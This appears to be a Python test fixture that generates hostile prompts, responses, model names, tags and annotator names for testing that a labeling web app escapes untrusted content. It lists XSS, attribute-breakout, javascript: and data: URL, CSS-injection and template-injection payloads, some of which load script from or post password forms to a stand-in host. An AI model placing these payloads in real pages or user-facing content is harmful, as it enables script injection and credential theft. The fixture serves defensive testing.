"""Hostile content: prompts and model outputs that try to run code, restyle the page, fetch or confuse.

Every payload that would run script sets `window.__pwned` (or calls alert); every payload that would
inject an element or attribute marks it with `hostile` (an id, class, attribute or URL), so a test can
look for both. `hostile_pool()` gives pool lines (FORMATS.md §1) for `import_pool`; the first items
carry unanimous human labels, so they resolve and hostile model names, tags and annotator names reach
the leads' tables too.
"""

import base64

PWN = "window.__pwned=1"
DATA_HTML = "data:text/html;base64," + base64.b64encode(f"<script>{PWN}</script>".encode()).decode()
DATA_SVG = "data:image/svg+xml;base64," + base64.b64encode(f'<svg onload="{PWN}"/>'.encode()).decode()

# One code point from each of the 17 Unicode planes (no NUL: PostgreSQL text refuses it).
EVERY_PLANE = "".join(
    [
        "A é 中 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",  # 0: the Basic Multilingual Plane
        "\U0001d538 \U0001f600 \U0001f469\u200d\U0001f4bb",  # 1: maths, emoji, a ZWJ sequence
        "\U00020000",  # 2: CJK extension B
        "\U00030000",  # 3: CJK extension G
        *[chr(plane << 16 | 0x0041) for plane in range(4, 14)],  # 4-13: unassigned scalar values
        "\U000e0041\U000e0001",  # 14: tag characters
        "\U000f0041",  # 15: private use
        "\U00100041",  # 16: private use
    ]
)

# (name, text): each is used as a prompt and as a response text.
PAYLOADS = [
    ("script-tag", f"Before <script>{PWN}</script> after <SCRIPT SRC=//hostile.invalid/x.js></SCRIPT>"),
    (
        "event-handlers",
        f'<img src=x id="hostile-img" onerror="{PWN}"> <svg onload="{PWN}" class="hostile"></svg> '
        f'<body onload="{PWN}"> <div onmouseover="{PWN}" hostile="1">hover</div>',
    ),
    (
        "attribute-breakout",
        f"\" onfocus=\"{PWN}\" autofocus hostile=\" ' onfocus='{PWN}' ' --></textarea></title></style>"
        f"<script>{PWN}</script>",
    ),
    (
        "markdown-links",
        f"[click me](javascript:{PWN}) [upper](JaVaScRiPt:{PWN}) [spaced]( javascript:{PWN}) "
        f"[entity](java&#x09;script:{PWN}) [data]({DATA_HTML}) [vb](vbscript:msgbox) <javascript:{PWN}> "
        "[ref link][evil]\n\n[evil]: javascript:window.__pwned=1",
    ),
    (
        "markdown-images",
        f"![img](javascript:{PWN}) ![svg]({DATA_SVG}) ![tracker](https://hostile.invalid/pixel.png) "
        '![title](x "onerror=window.__pwned=1")',
    ),
    (
        "raw-html-elements",
        '<iframe src="https://hostile.invalid/" class="hostile"></iframe> <object data="x" class="hostile"></object> '
        '<embed src="x" class="hostile"> <form action="https://hostile.invalid/" class="hostile">'
        '<input name="password"></form> <meta http-equiv="refresh" content="0;url=https://hostile.invalid/"> '
        '<base href="https://hostile.invalid/"> <link rel="stylesheet" href="https://hostile.invalid/x.css">',
    ),
    (
        "css-injection",
        "<style>body{display:none!important} *{background:url(https://hostile.invalid/css)}</style> "
        '<div style="position:fixed;inset:0;background:red;z-index:99999" class="hostile">overlay</div> '
        "<p style=\"background-image:url('javascript:window.__pwned=1')\">styled</p>",
    ),
    (
        "template-injection",
        "{{ 7|add:35 }} {% csrf_token %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('x')()}}",
    ),
    (
        "bidi-and-invisible",
        "Safe \u202eevil\u202c text; isolate \u2067reversed\u2069; zero\u200bwidth\u200c\u200d\ufeff joiners; "
        "soft\u00adhyphen; bell\u0007; line\u2028separator",
    ),
    ("every-plane", EVERY_PLANE),
    ("html-entities", "&lt;script&gt;window.__pwned=1&lt;/script&gt; &amp;lt; &#60;b&#62;bold?&#60;/b&#62;"),
    ("code-fence", f"```html\n<script>{PWN}</script>\n```\n\n    <img src=x onerror={PWN}>\n\n`<b>inline</b>`"),
]

# 1 MB on one line, with no space to break at.
ONE_MB_LINE = "A" * 1_048_576

# Markers whose presence in the page's text proves the payload was shown as text, not parsed.
VISIBLE_AS_TEXT = ["<script>", "onerror=", "javascript:", "{{ 7|add:35 }}", "\U0001f600"]

# Names the leads' tables show: model names, tags, external annotators.
HOSTILE_MODEL = '<img src=x onerror="window.__pwned=1" class="hostile">model'
HOSTILE_TAG = "<script>window.__pwned=1</script>tag"
HOSTILE_ANNOTATOR = '"><svg onload="window.__pwned=1" class="hostile">'


def _labels(a: str, b: str, annotators=("ann-1", HOSTILE_ANNOTATOR)) -> list[dict]:
    """Unanimous human labels on the test rubric (tests.conftest.RUBRIC), so the item resolves."""
    labels = []
    for name in annotators:
        labels += [
            {"annotator": name, "kind": "human", "criterion": "preference", "value": a},
            {"annotator": name, "kind": "human", "criterion": "compliance", "response": a, "value": "harmful"},
            {"annotator": name, "kind": "human", "criterion": "compliance", "response": b, "value": "full_refusal"},
            {"annotator": name, "kind": "human", "criterion": "quality", "response": a, "value": 2},
            {"annotator": name, "kind": "human", "criterion": "quality", "response": b, "value": 5},
        ]
    return labels


def _line(name: str, text: str, n: int, *, resolved: bool) -> dict:
    suffix = "-resolved" if resolved else ""
    line = {
        "external_id": f"hostile-{name}{suffix}",
        "prompt_id": f"p-hostile-{name}{suffix}",
        "prompt": f"Prompt {name}: {text}",
        "responses": [
            {"key": f"{name}{suffix}-a", "model": HOSTILE_MODEL, "text": f"Response A {name}: {text}"},
            {"key": f"{name}{suffix}-b", "model": f"model-{n % 2}", "text": f"Response B {name}: {text}"},
        ],
        "tags": [HOSTILE_TAG, "safe"],
        "metadata": {"note": text[:200]},
    }
    if resolved:
        line["labels"] = _labels(f"{name}{suffix}-a", f"{name}{suffix}-b")
    return line


def hostile_pool(*, resolved: bool = True) -> list[dict]:
    """Pool lines: one open item per payload, a 1 MB response in a hostile chat transcript, and
    (with `resolved`) a resolved copy of every payload, judged unanimously by two external annotators."""
    lines = [_line(name, text, n, resolved=False) for n, (name, text) in enumerate(PAYLOADS)]
    lines.append(
        {
            "external_id": "hostile-one-mb",
            "prompt_id": "p-hostile-one-mb",
            "prompt": [
                {"role": "system", "content": f"<script>{PWN}</script> system turn"},
                {"role": "user", "content": "Say A a million times, on one line."},
            ],
            "responses": [
                {"key": "mb-a", "model": "model-0", "text": ONE_MB_LINE},
                {"key": "mb-b", "model": "model-1", "text": "No."},
            ],
            "tags": ["safe"],
        }
    )
    if resolved:
        lines += [_line(name, text, n, resolved=True) for n, (name, text) in enumerate(PAYLOADS)]
    return lines
